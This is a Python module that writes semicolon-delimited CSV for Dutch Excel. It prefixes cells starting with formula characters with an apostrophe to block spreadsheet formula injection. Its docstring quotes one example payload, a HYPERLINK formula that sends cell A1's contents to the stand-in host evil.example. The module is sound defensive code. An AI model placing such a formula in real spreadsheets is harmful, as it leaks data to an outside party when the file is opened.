"""CSV for spreadsheets that open user text as text, never as a formula.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
Excel skips before reading one of those) is a formula to a spreadsheet: a goal titled
``=HYPERLINK("https://evil.example/?"&A1)`` would run when HR opens the export. Such a
cell gets a leading apostrophe, as OWASP advises, so it shows as the text it is. Plain
numbers (``-3``, ``1,5``) stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> object: ...


def spreadsheet_safe(value: object) -> str:
    """``value`` as a cell a spreadsheet reads as text (numbers stay numbers)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SpreadsheetSafeWriter:
    """``csv.writer`` for Dutch Excel (``;``, CRLF) that neutralises formulas."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream, delimiter=";", lineterminator="\r\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([spreadsheet_safe(value) for value in row])
